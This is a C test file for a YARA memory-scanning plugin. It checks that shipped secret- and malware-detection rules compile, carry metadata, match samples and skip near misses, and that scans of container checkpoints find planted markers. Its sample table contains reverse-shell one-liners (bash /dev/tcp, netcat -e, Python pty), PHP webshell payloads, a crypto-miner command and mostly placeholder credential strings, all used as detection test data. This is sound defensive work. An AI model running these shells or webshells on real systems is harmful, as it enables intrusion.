/* test-rules.c - the yara plugin's rule sets and scanner, and the curated
 * rules shipped in rules/.
 *
 * The shipped rules must compile without a single libyara warning (slow
 * atoms are warnings), carry the documented metadata, fire on a sample of
 * what each one is for and stay quiet on near misses. On the real fixtures
 * the scanner (plugins/yara/scan.c, fed by the core's memory iterator) must
 * report the workload's planted strings at the virtual addresses recorded
 * in markers-*.txt, find the string that straddles a page boundary, never
 * see the file-only page, and give the same hits with one or many threads.
 * Bad rule sources give errors naming the file and line.
 */
#define _GNU_SOURCE /* memmem */
#include <glib.h>
#include <glib/gstdio.h>
#include <stdio.h>
#include <string.h>

#include "fixture.h"
#include "model/model.h"
#include "ruleset.h"
#include "scan.h"

/* ---- helpers ------------------------------------------------------------- */

static char *
rules_dir(void)
{
  return g_build_filename(fixture_env("CKPT_SOURCE_ROOT"), "rules", NULL);
}

static CkptYaraRuleset *
shipped_rules(gboolean strict)
{
  g_autofree char *dir = rules_dir();
  const char *src[] = {dir, NULL};
  g_autoptr(GError) error = NULL;
  CkptYaraRuleset *rs = ckpt_yara_ruleset_new(src, NULL, strict, NULL, &error);
  g_assert_no_error(error);
  g_assert_nonnull(rs);
  return rs;
}

static int
collect_names(YR_SCAN_CONTEXT *ctx, int msg, void *data, void *user)
{
  if (msg == CALLBACK_MSG_RULE_MATCHING)
    g_ptr_array_add(user, g_strdup(((YR_RULE *)data)->identifier));
  return CALLBACK_CONTINUE;
}

/* Names of the rules matching text, embedded in NULs as in memory. */
static GPtrArray *
rules_matching(const CkptYaraRuleset *rs, const char *text)
{
  GPtrArray *names = g_ptr_array_new_with_free_func(g_free);
  size_t n = strlen(text);
  g_autofree guint8 *buf = g_malloc0(n + 64);
  memcpy(buf + 32, text, n);
  int rc =
      yr_rules_scan_mem(rs->rules, buf, n + 64, 0, collect_names, names, 0);
  g_assert_cmpint(rc, ==, ERROR_SUCCESS);
  return names;
}

static gboolean
has_name(GPtrArray *names, const char *name)
{
  for (guint i = 0; i < names->len; i++)
    if (strcmp(names->pdata[i], name) == 0)
      return TRUE;
  return FALSE;
}

static char *
write_temp(const char *dir, const char *name, const char *content)
{
  char *path = g_build_filename(dir, name, NULL);
  g_autoptr(GError) error = NULL;
  g_file_set_contents(path, content, -1, &error);
  g_assert_no_error(error);
  return path;
}

/* ---- the shipped rules --------------------------------------------------- */

static void
test_shipped_compile_clean(void)
{
  /* strict: one warning (a slow atom, say) fails the compile */
  g_autoptr(CkptYaraRuleset) rs = shipped_rules(TRUE);
  g_assert_cmpuint(rs->warnings->len, ==, 0);
  g_assert_cmpuint(rs->n_rules, >=, 18);
}

static const char *
meta_str(const YR_RULE *rule, const char *key)
{
  const YR_META *m;
  yr_rule_metas_foreach(rule, m)
  {
    if (m->type == META_TYPE_STRING && strcmp(m->identifier, key) == 0)
      return m->string;
  }
  return NULL;
}

static void
test_shipped_metadata(void)
{
  g_autoptr(CkptYaraRuleset) rs = shipped_rules(TRUE);
  const char *const severities[] = {"low", "medium", "high", "critical", NULL};
  YR_RULE *rule;
  yr_rules_foreach(rs->rules, rule)
  {
    const char *d = meta_str(rule, "description");
    const char *a = meta_str(rule, "author");
    const char *r = meta_str(rule, "reference");
    const char *s = meta_str(rule, "severity");
    if (!d || !*d || g_strcmp0(a, "ckpt") != 0 || !r ||
        !g_str_has_prefix(r, "https://") || !s ||
        !g_strv_contains(severities, s))
      g_error("rule %s: needs description, author ckpt, an https reference "
              "and a severity (low, medium, high, critical)",
              rule->identifier);
  }
}

#define B64_36 "u8jzPde0IgxLd6GncfBAepfJBd0Kh8oOOL8d"

/* One sample that must fire each rule, and near misses that must not. */
static const struct {
  const char *rule;
  const char *hit;
  const char *miss;
} samples[] = {
    {"aws_access_key_id", "id=AKIAIOSFODNN7EXAMPLE\n", "AKIAIOSFODNN7EXAMPL"},
    {"aws_access_key_id", "ASIAY34FZKBOKMUTVV7A", "XAKIAIOSFODNN7EXAMPLE"},
    {"aws_secret_access_key",
     "aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
     "aws_secret_access_key = ${SECRET}"},
    {"gcp_service_account_key",
     "{\n  \"type\": \"service_account\",\n  \"project_id\": \"p\",\n"
     "  \"private_key_id\": \"0123abcd\",\n  \"private_key\": \"-----BEGIN "
     "PRIVATE KEY-----\\nMIIE\\n\",\n  \"client_email\": \"a@p.iam\"\n}",
     "{\"type\": \"service_account\", \"client_email\": \"a@p.iam\"}"},
    {"github_token", "token ghp_" B64_36 "\n", "ghp_u8jzPde0IgxLd6Gnc"},
    {"github_token", "gho_" B64_36, "ghx_" B64_36},
    {"github_fine_grained_pat",
     "github_pat_11ABCDEFG0123456789abc_"
     "0123456789abcdefghijABCDEFGHIJ0123456789abcdefghijABCDEFGHI",
     "github_pat_11ABCDEFG0123456789abcd"},
    {"gitlab_personal_access_token", "glpat-Xk3vQ9mT2rLp7WnB4yZc",
     "glpat-Xk3vQ9mT2r"},
    {"slack_token", "xoxp-123456789012-abcdefghijklmnop",
     "xoxq-123456789012-abcdefghijklmnop"},
    {"stripe_live_key", "sk_live_4eC39HqLyjWDarjtT1zdp7dc",
     "sk_test_4eC39HqLyjWDarjtT1zdp7dc"},
    {"stripe_live_key", "rk_live_4eC39HqLyjWDarjtT1zdp7dc", "rk_live_short"},
    {"url_with_password", "DATABASE_URL=postgres://app:S3cretPass@db:5432/app",
     "https://example.com/a?b=c@d"},
    {"url_with_password", "https://admin:hunter2@example.com/",
     "mailto:admin@example.com"},
    {"pem_private_key",
     "-----BEGIN PRIVATE KEY-----\n"
     "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7\n",
     "-----BEGIN PRIVATE KEY-----"},
    {"pem_private_key",
     "-----BEGIN OPENSSH PRIVATE KEY-----\r\n"
     "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtz\r\n",
     "-----BEGIN PUBLIC KEY-----\n"
     "MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAu1SU1LfVLPHCozMxH2Mo\n"},
    {"pgp_private_key_block",
     "-----BEGIN PGP PRIVATE KEY BLOCK-----\n\nlQOYBF0000000\n",
     "-----BEGIN PGP PUBLIC KEY BLOCK-----\n\nmQENBF0000000\n"},
    {"jwt_token",
     "Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0."
     "dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
     "eyJhbGciOiJIUzI1NiJ9"},
    {"kubernetes_service_account_token",
     /* claims {"iss":"kubernetes/serviceaccount","sub":"system:
      * serviceaccount:default:x"} */
     "eyJhbGciOiJSUzI1NiIsImtpZCI6IiJ9."
     "eyJpc3MiOiJrdWJlcm5ldGVzL3NlcnZpY2VhY2NvdW50Iiwic3ViIjoic3lzdGVtOnNl"
     "cnZpY2VhY2NvdW50OmRlZmF1bHQ6eCJ9.c2lnbmF0dXJlc2lnbmF0dXJl",
     /* claims {"iss":"https://accounts.example.com","sub":"1234"} */
     "eyJhbGciOiJSUzI1NiIsImtpZCI6IiJ9."
     "eyJpc3MiOiJodHRwczovL2FjY291bnRzLmV4YW1wbGUuY29tIiwic3ViIjoiMTIzNCJ9."
     "c2lnbmF0dXJlc2lnbmF0dXJl"},
    {"miner_stratum_url", "-o stratum+tcp://pool.example.com:3333",
     "the stratum protocol"},
    {"miner_xmrig",
     "./xmrig -o pool.supportxmr.com:443 -u 44AFFq5k --donate-level 1",
     "--donate-level 1"},
    {"reverse_shell_dev_tcp",
     "bash -c 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'",
     "exec 3<>/dev/tcp/www.example.com/80"},
    {"reverse_shell_netcat_exec", "nc -e /bin/sh 10.0.0.1 4444", "nc -l 4444"},
    {"reverse_shell_netcat_exec", "ncat 10.0.0.1 4444 --exec /bin/bash",
     "ncat --listen 4444"},
    {"reverse_shell_python_pty",
     "python3 -c 'import socket,os,pty;s=socket.socket();"
     "s.connect((\"10.0.0.1\",4444));os.dup2(s.fileno(),0);"
     "pty.spawn(\"/bin/sh\")'",
     "python3 -c 'import pty; pty.spawn(\"/bin/bash\")'"},
    {"php_webshell_eval_request", "<?php @eval(base64_decode($_POST['x'])); ?>",
     "<?php eval(base64_decode($config)); ?>"},
    {"php_webshell_eval_request", "<?php system($_GET['cmd']); ?>",
     "<?php system('ls'); ?>"},
};

static void
test_shipped_samples(void)
{
  g_autoptr(CkptYaraRuleset) rs = shipped_rules(TRUE);
  for (size_t i = 0; i < G_N_ELEMENTS(samples); i++) {
    g_autoptr(GPtrArray) hit = rules_matching(rs, samples[i].hit);
    g_autoptr(GPtrArray) miss = rules_matching(rs, samples[i].miss);
    if (!has_name(hit, samples[i].rule))
      g_error("rule %s does not fire on sample %zu", samples[i].rule, i);
    if (has_name(miss, samples[i].rule))
      g_error("rule %s fires on near miss %zu", samples[i].rule, i);
  }
  /* every shipped rule has a sample here */
  YR_RULE *rule;
  yr_rules_foreach(rs->rules, rule)
  {
    gboolean found = FALSE;
    for (size_t i = 0; i < G_N_ELEMENTS(samples); i++)
      found |= strcmp(samples[i].rule, rule->identifier) == 0;
    if (!found)
      g_error("rule %s has no sample in test-rules.c", rule->identifier);
  }
}

/* ---- rule-set loading and its errors ------------------------------------- */

static void
test_compile_error_names_file_and_line(void)
{
  g_autofree char *dir = fixture_tmpdir();
  g_autofree char *bad =
      write_temp(dir, "bad.yar",
                 "rule ok { condition: true }\n\nrule broken {\n"
                 "  strings: $a = \"xyzzy\"\n  condition: $a and $b }\n");
  const char *src[] = {bad, NULL};
  g_autoptr(GError) error = NULL;
  g_autoptr(CkptYaraRuleset) rs =
      ckpt_yara_ruleset_new(src, NULL, FALSE, NULL, &error);
  g_assert_null(rs);
  g_assert_error(error, CKPT_YARA_ERROR, CKPT_YARA_ERROR_RULES);
  g_autofree char *where = g_strdup_printf("%s:5:", bad);
  if (strstr(error->message, where) == NULL)
    g_error("compile error does not name %s: %s", where, error->message);
  fixture_rm_rf(dir);
}

static void
test_missing_and_empty_sources(void)
{
  g_autofree char *dir = fixture_tmpdir();
  g_autofree char *missing = g_build_filename(dir, "nope.yar", NULL);
  const char *src1[] = {missing, NULL};
  g_autoptr(GError) e1 = NULL;
  g_assert_null(ckpt_yara_ruleset_new(src1, NULL, FALSE, NULL, &e1));
  g_assert_error(e1, CKPT_YARA_ERROR, CKPT_YARA_ERROR_RULES);
  g_assert_nonnull(strstr(e1->message, missing));
  g_assert_nonnull(strstr(e1->message, "no such file"));

  const char *src2[] = {dir, NULL}; /* a directory without rules */
  g_autoptr(GError) e2 = NULL;
  g_assert_null(ckpt_yara_ruleset_new(src2, NULL, FALSE, NULL, &e2));
  g_assert_nonnull(strstr(e2->message, "no .yar"));

  const char *src3[] = {NULL};
  g_autoptr(GError) e3 = NULL;
  g_assert_null(ckpt_yara_ruleset_new(src3, NULL, FALSE, NULL, &e3));
  g_assert_nonnull(strstr(e3->message, "no rules"));
  fixture_rm_rf(dir);
}

static void
test_strict_warning(void)
{
  /* a two-byte atom: libyara warns that it slows scanning down */
  g_autofree char *dir = fixture_tmpdir();
  g_autofree char *slow =
      write_temp(dir, "slow.yar",
                 "rule slow { strings: $a = { 00 01 [0-8] 02 }\n"
                 "  condition: $a }\n");
  const char *src[] = {slow, NULL};
  g_autoptr(GError) error = NULL;
  g_autoptr(CkptYaraRuleset) lax =
      ckpt_yara_ruleset_new(src, NULL, FALSE, NULL, &error);
  g_assert_no_error(error);
  g_assert_cmpuint(lax->warnings->len, >, 0);
  g_assert_null(ckpt_yara_ruleset_new(src, NULL, TRUE, NULL, &error));
  g_assert_error(error, CKPT_YARA_ERROR, CKPT_YARA_ERROR_RULES);
  g_assert_nonnull(strstr(error->message, "slow.yar:1"));
  fixture_rm_rf(dir);
}

static void
test_defines(void)
{
  g_autofree char *dir = fixture_tmpdir();
  g_autofree char *path =
      write_temp(dir, "ext.yar",
                 "rule by_int { condition: level == 5 }\n"
                 "rule by_bool { condition: enabled }\n"
                 "rule by_str { condition: who == \"ckpt\" }\n"
                 "rule by_float { condition: ratio > 0.5 }\n");
  const char *src[] = {path, NULL};
  const char *defs[] = {"level=5", "enabled=true", "who=ckpt", "ratio=0.75",
                        NULL};
  g_autoptr(GError) error = NULL;
  g_autoptr(CkptYaraRuleset) rs =
      ckpt_yara_ruleset_new(src, defs, TRUE, NULL, &error);
  g_assert_no_error(error);
  g_autoptr(GPtrArray) names = rules_matching(rs, "anything");
  g_assert_true(has_name(names, "by_int"));
  g_assert_true(has_name(names, "by_bool"));
  g_assert_true(has_name(names, "by_str"));
  g_assert_true(has_name(names, "by_float"));

  const char *other[] = {"level=4", "enabled=false", "who=x", "ratio=0.25",
                         NULL};
  g_autoptr(CkptYaraRuleset) rs2 =
      ckpt_yara_ruleset_new(src, other, TRUE, NULL, &error);
  g_assert_no_error(error);
  g_autoptr(GPtrArray) none = rules_matching(rs2, "anything");
  g_assert_cmpuint(none->len, ==, 0);

  /* undefined external: a compile error; malformed define: its own error */
  g_assert_null(ckpt_yara_ruleset_new(src, NULL, FALSE, NULL, &error));
  g_assert_error(error, CKPT_YARA_ERROR, CKPT_YARA_ERROR_RULES);
  g_clear_error(&error);
  const char *bad[] = {"=5", NULL};
  g_assert_null(ckpt_yara_ruleset_new(src, bad, FALSE, NULL, &error));
  g_assert_error(error, CKPT_YARA_ERROR, CKPT_YARA_ERROR_DEFINE);
  fixture_rm_rf(dir);
}

static void
test_compiled_rules(void)
{
  g_autofree char *dir = fixture_tmpdir();
  g_autoptr(CkptYaraRuleset) rs = shipped_rules(TRUE);
  g_autofree char *compiled = g_build_filename(dir, "all.yarc", NULL);
  g_assert_cmpint(yr_rules_save(rs->rules, compiled), ==, ERROR_SUCCESS);

  const char *src[] = {compiled, NULL};
  g_autoptr(GError) error = NULL;
  /* as source rules, a compiled file is refused: it loads only when named
   * as compiled rules */
  g_assert_null(ckpt_yara_ruleset_new(src, NULL, FALSE, NULL, &error));
  g_assert_nonnull(strstr(error->message, "compiled rules, not source"));
  g_clear_error(&error);
  g_autoptr(CkptYaraRuleset) loaded =
      ckpt_yara_ruleset_load_compiled(compiled, NULL, &error);
  g_assert_no_error(error);
  g_assert_true(loaded->precompiled);
  g_assert_cmpuint(loaded->n_rules, ==, rs->n_rules);
  g_autoptr(GPtrArray) names =
      rules_matching(loaded, "nc -e /bin/sh 10.0.0.1 4444");
  g_assert_true(has_name(names, "reverse_shell_netcat_exec"));

  /* compiled rules cannot be mixed with sources */
  g_autofree char *rd = rules_dir();
  g_autofree char *keys = g_build_filename(rd, "keys.yar", NULL);
  gboolean fresh = FALSE;
  g_assert_null(ckpt_yara_ruleset_cached(keys, compiled, NULL, FALSE, NULL,
                                         &fresh, &error));
  g_assert_nonnull(strstr(error->message, "mixed"));
  g_clear_error(&error);
  ckpt_yara_ruleset_cache_clear();
  /* a source file is not compiled rules */
  g_assert_null(ckpt_yara_ruleset_load_compiled(keys, NULL, &error));
  g_assert_nonnull(strstr(error->message, "no YARA magic"));
  g_clear_error(&error);

  /* a truncated compiled file is refused, not crashed on */
  g_autofree char *bytes = NULL;
  gsize len = 0;
  g_file_get_contents(compiled, &bytes, &len, &error);
  g_assert_no_error(error);
  g_autofree char *cut = g_build_filename(dir, "cut.yarc", NULL);
  g_file_set_contents(cut, bytes, (gssize)(len / 2), &error);
  g_assert_no_error(error);
  g_assert_null(ckpt_yara_ruleset_load_compiled(cut, NULL, &error));
  g_assert_error(error, CKPT_YARA_ERROR, CKPT_YARA_ERROR_RULES);
  g_assert_nonnull(strstr(error->message, cut));
  fixture_rm_rf(dir);
}

static void
test_split_list(void)
{
  g_auto(GStrv) a = ckpt_yara_split_list("a.yar, b.yar,,c");
  g_assert_cmpuint(g_strv_length(a), ==, 3);
  g_assert_cmpstr(a[1], ==, "b.yar");
  /* with newlines, commas are part of the items */
  g_auto(GStrv) b = ckpt_yara_split_list("x=1,2\ny=3\n");
  g_assert_cmpuint(g_strv_length(b), ==, 2);
  g_assert_cmpstr(b[0], ==, "x=1,2");
  g_auto(GStrv) c = ckpt_yara_split_list(NULL);
  g_assert_cmpuint(g_strv_length(c), ==, 0);
}

/* ---- scanning the real fixtures ------------------------------------------ */

/* The table of the SDK the scanner uses, straight from the core: no host,
 * no plugin loading, so this tests scan.c alone. */
static const CkptApi *
core_api(void)
{
  static CkptApi api;
  api.size = sizeof(api);
  api.abi_major = CKPT_ABI_MAJOR;
  api.abi_minor = CKPT_ABI_MINOR;
  api.vma_find = ckpt_mem_vma_find;
  api.mem_read = ckpt_mem_read;
  api.mem_iter_new = ckpt_mem_iter_new;
  api.mem_iter_next = ckpt_mem_iter_next;
  api.mem_iter_free = ckpt_mem_iter_free;
  return &api;
}

/* Every fixture the sweep reads records at least eight markers. */
static GArray *
read_markers(const char *fixture)
{
  GArray *m = fixture_markers(fixture);
  g_assert_cmpuint(m->len, >=, 8);
  return m;
}

/* Marker strings as a rule file: one string per planted marker. */
static const char marker_rules[] =
    "rule ckpt_markers {\n"
    "  strings:\n"
    "    $heap = \"CKPT-MARKER-HEAP-7f3a\"\n"
    "    $straddle = \"CKPT-MARKER-STRADDLE-PAGE-BOUNDARY\"\n"
    "    $thread = \"CKPT-MARKER-THREAD-STACK\"\n"
    "    $worker = \"CKPT-MARKER-WORKER-HEAP\"\n"
    "    $fileonly = \"CKPT-MARKER-FILEONLY\"\n"
    "    $binary = { de ad 00 be ef 00 ff 01 7f 80 00 00 c3 a9 0a 0d }\n"
    "  condition: any of them\n"
    "}\n";

/* marker name -> rule and string that must hit at its address */
static const struct {
  const char *marker, *rule, *string;
} expected[] = {
    {"heap", "ckpt_markers", "$heap"},
    {"straddle", "ckpt_markers", "$straddle"},
    {"thread-stack", "ckpt_markers", "$thread"},
    {"worker-heap", "ckpt_markers", "$worker"},
    {"binary", "ckpt_markers", "$binary"},
    {"pem", "pem_private_key", "$pem"},
    {"jwt", "jwt_token", "$alg"},
    {"slack", "slack_token", "$xoxb"},
};

typedef struct {
  CkptCheckpoint *ckpt;
  CkptYaraJob *jobs;
  size_t n;
} Sweep;

static void
sweep_release(Sweep *s)
{
  for (size_t i = 0; i < s->n; i++)
    ckpt_yara_job_release(&s->jobs[i]);
  g_free(s->jobs);
  ckpt_checkpoint_free(s->ckpt);
}

static const CkptYaraRuleset *
fixture_rules(void)
{
  static CkptYaraRuleset *rs;
  if (rs == NULL) {
    g_autofree char *dir = fixture_tmpdir();
    g_autofree char *markers = write_temp(dir, "markers.yar", marker_rules);
    g_autofree char *shipped = rules_dir();
    const char *src[] = {shipped, markers, NULL};
    g_autoptr(GError) error = NULL;
    rs = ckpt_yara_ruleset_new(src, NULL, TRUE, NULL, &error);
    g_assert_no_error(error);
    fixture_rm_rf(dir);
  }
  return rs;
}

static void
sweep(Sweep *s, const char *file, unsigned threads, unsigned max_matches)
{
  s->ckpt = fixture_open(file);
  s->n = s->ckpt->n_procs;
  s->jobs = g_new0(CkptYaraJob, s->n);
  for (size_t i = 0; i < s->n; i++) {
    s->jobs[i].proc = &s->ckpt->procs[i];
    s->jobs[i].info = &s->ckpt->procs[i].info;
  }
  CkptYaraScanOpts o = {.flags = 0,
                        .timeout = 0,
                        .max_matches = max_matches,
                        .context = 16,
                        .threads = threads};
  ckpt_yara_scan_processes(core_api(), fixture_rules(), &o, s->jobs, s->n, NULL,
                           NULL);
  for (size_t i = 0; i < s->n; i++)
    g_assert_cmpint(s->jobs[i].status, ==, ERROR_SUCCESS);
}

static const CkptYaraHit *
find_hit(const Sweep *s, uint32_t pid, const char *rule, const char *string,
         uint64_t addr)
{
  for (size_t j = 0; j < s->n; j++) {
    if (s->jobs[j].info->pid != pid)
      continue;
    for (guint i = 0; i < s->jobs[j].hits->len; i++) {
      const CkptYaraHit *h = s->jobs[j].hits->pdata[i];
      if (strcmp(h->rule->identifier, rule) == 0 &&
          (string == NULL || g_strcmp0(h->string, string) == 0) &&
          (addr == 0 || h->addr == addr))
        return h;
    }
  }
  return NULL;
}

static void
check_fixture(gconstpointer data)
{
  const char *const *fx = data; /* file, markers name */
  g_autoptr(GArray) markers = read_markers(fx[1]);
  Sweep s = {0};
  sweep(&s, fx[0], 4, 16);

  guint checked = 0;
  for (guint m = 0; m < markers->len; m++) {
    const FixtureMarker *mk = &g_array_index(markers, FixtureMarker, m);
    for (size_t e = 0; e < G_N_ELEMENTS(expected); e++) {
      if (strcmp(mk->name, expected[e].marker) != 0)
        continue;
      const CkptYaraHit *h =
          find_hit(&s, mk->pid, expected[e].rule, expected[e].string, mk->addr);
      if (h == NULL)
        g_error("%s: no %s %s hit in pid %u at 0x%" G_GINT64_MODIFIER "x",
                fx[0], expected[e].rule, expected[e].string, mk->pid, mk->addr);
      /* the context holds the match, inside its VMA */
      gsize n;
      const guint8 *ctx = g_bytes_get_data(h->context, &n);
      const guint8 *data_bytes = g_bytes_get_data(h->data, NULL);
      g_assert_cmpuint(n, >=, h->len);
      g_assert_nonnull(memmem(ctx, n, data_bytes, MIN(h->len, 16)));
      g_assert_nonnull(h->vma);
      if (strcmp(mk->name, "heap") == 0)
        g_assert_cmpstr(h->vma, ==, "heap");
      checked++;
    }
  }
  g_assert_cmpuint(checked, >=, G_N_ELEMENTS(expected));

  /* the k8s token fires where the JWT is; the file-only page is absent */
  g_assert_nonnull(
      find_hit(&s, 1, "kubernetes_service_account_token", NULL, 0));
  for (size_t j = 0; j < s.n; j++)
    g_assert_null(
        find_hit(&s, s.jobs[j].info->pid, "ckpt_markers", "$fileonly", 0));
  /* the environment's secrets are in every process with memory */
  for (size_t j = 0; j < s.n; j++) {
    if (!s.jobs[j].info->has_mm)
      continue;
    uint32_t pid = s.jobs[j].info->pid;
    g_assert_nonnull(find_hit(&s, pid, "aws_access_key_id", NULL, 0));
    g_assert_nonnull(find_hit(&s, pid, "github_token", NULL, 0));
    g_assert_nonnull(find_hit(&s, pid, "url_with_password", NULL, 0));
  }
  /* pid 2 was forked before the heap secrets were planted: clean of them */
  const char *const planted_later[] = {
      "pem_private_key", "jwt_token", "slack_token",
      "kubernetes_service_account_token", "gitlab_personal_access_token"};
  for (size_t r = 0; r < G_N_ELEMENTS(planted_later); r++)
    g_assert_null(find_hit(&s, 2, planted_later[r], NULL, 0));
  /* nothing else fires anywhere: no miner, shell or cloud-key rule */
  const char *const never[] = {
      "miner_stratum_url",        "miner_xmrig",
      "reverse_shell_dev_tcp",    "reverse_shell_netcat_exec",
      "reverse_shell_python_pty", "php_webshell_eval_request",
      "stripe_live_key",          "gcp_service_account_key",
      "pgp_private_key_block"};
  for (size_t j = 0; j < s.n; j++)
    for (size_t r = 0; r < G_N_ELEMENTS(never); r++)
      g_assert_null(find_hit(&s, s.jobs[j].info->pid, never[r], NULL, 0));
  sweep_release(&s);
}

static char *
hit_key(uint32_t pid, const CkptYaraHit *h)
{
  return g_strdup_printf("%u %s %s %" G_GINT64_MODIFIER
                         "x %u %" G_GUINT64_FORMAT,
                         pid, h->rule->identifier, h->string ? h->string : "-",
                         h->addr, h->len, h->count);
}

static GPtrArray *
hit_keys(const Sweep *s)
{
  GPtrArray *keys = g_ptr_array_new_with_free_func(g_free);
  for (size_t j = 0; j < s->n; j++)
    for (guint i = 0; i < s->jobs[j].hits->len; i++)
      g_ptr_array_add(keys,
                      hit_key(s->jobs[j].info->pid, s->jobs[j].hits->pdata[i]));
  return keys;
}

static void
test_threads_agree(void)
{
  Sweep one = {0}, many = {0};
  sweep(&one, "podman-none.tar", 1, 16);
  sweep(&many, "podman-none.tar", 8, 16);
  g_autoptr(GPtrArray) a = hit_keys(&one);
  g_autoptr(GPtrArray) b = hit_keys(&many);
  g_assert_cmpuint(a->len, >, 10);
  g_assert_cmpuint(a->len, ==, b->len);
  for (guint i = 0; i < a->len; i++)
    g_assert_cmpstr(a->pdata[i], ==, b->pdata[i]);
  uint64_t bytes = 0;
  for (size_t j = 0; j < one.n; j++)
    bytes += one.jobs[j].bytes;
  /* every present byte went to libyara once */
  uint64_t present = 0;
  for (size_t j = 0; j < one.n; j++)
    present += one.jobs[j].info->mem_present;
  g_assert_cmpuint(bytes, ==, present);
  sweep_release(&one);
  sweep_release(&many);
}

static void
test_max_matches(void)
{
  /* pid 1 holds its AWS key id twice (environment and the credentials file
   * it wrote): with one match kept per string, one row says count 2 */
  Sweep s = {0};
  sweep(&s, "podman-none.tar", 2, 1);
  guint rows = 0;
  for (size_t j = 0; j < s.n; j++) {
    if (s.jobs[j].info->pid != 1)
      continue;
    for (guint i = 0; i < s.jobs[j].hits->len; i++) {
      const CkptYaraHit *h = s.jobs[j].hits->pdata[i];
      if (strcmp(h->rule->identifier, "aws_access_key_id") == 0) {
        rows++;
        g_assert_cmpuint(h->count, >=, 2);
      }
    }
  }
  g_assert_cmpuint(rows, ==, 1);
  sweep_release(&s);
}

static void
test_scan_buffer(void)
{
  const CkptYaraRuleset *rs = fixture_rules();
  static const char text[] = "0123456789abcdef0123 nc -e /bin/sh 10.0.0.1 4444";
  CkptYaraScanOpts o = {.max_matches = 4, .context = 8, .threads = 1};
  g_autoptr(GPtrArray) hits =
      g_ptr_array_new_with_free_func((GDestroyNotify)ckpt_yara_hit_free);
  int rc = ckpt_yara_scan_buffer(rs, &o, (const guint8 *)text, sizeof(text) - 1,
                                 hits);
  g_assert_cmpint(rc, ==, ERROR_SUCCESS);
  g_assert_cmpuint(hits->len, ==, 1);
  const CkptYaraHit *h = hits->pdata[0];
  g_assert_cmpstr(h->rule->identifier, ==, "reverse_shell_netcat_exec");
  g_assert_cmpuint(h->addr, ==, 21);
  gsize n;
  const char *ctx = g_bytes_get_data(h->context, &n);
  g_assert_cmpuint(h->len, ==, strlen("nc -e /bin/sh"));
  g_assert_cmpuint(n, ==, 8 + h->len + 8);
  g_assert_true(memcmp(ctx, "def0123 nc -e", 13) == 0);
}

int
main(int argc, char **argv)
{
  g_test_init(&argc, &argv, NULL);
  g_assert_cmpint(yr_initialize(), ==, ERROR_SUCCESS);
  static const char *const fx[][2] = {
      {"podman-none.tar", "podman-none"},
      {"podman-zstd.tar.zst", "podman-zstd"},
      {"podman-none-criu3.tar", "podman-none-criu3"},
      {"criu-dir", "criu-dir"},
  };
  g_test_add_func("/rules/shipped/compile-clean", test_shipped_compile_clean);
  g_test_add_func("/rules/shipped/metadata", test_shipped_metadata);
  g_test_add_func("/rules/shipped/samples", test_shipped_samples);
  g_test_add_func("/rules/load/compile-error",
                  test_compile_error_names_file_and_line);
  g_test_add_func("/rules/load/missing", test_missing_and_empty_sources);
  g_test_add_func("/rules/load/strict", test_strict_warning);
  g_test_add_func("/rules/load/defines", test_defines);
  g_test_add_func("/rules/load/compiled", test_compiled_rules);
  g_test_add_func("/rules/load/split", test_split_list);
  for (size_t i = 0; i < G_N_ELEMENTS(fx); i++) {
    g_autofree char *name = g_strdup_printf("/rules/fixture/%s", fx[i][1]);
    g_test_add_data_func(name, fx[i], check_fixture);
  }
  g_test_add_func("/rules/scan/threads-agree", test_threads_agree);
  g_test_add_func("/rules/scan/max-matches", test_max_matches);
  g_test_add_func("/rules/scan/buffer", test_scan_buffer);
  int rc = g_test_run();
  yr_finalize();
  return rc;
}
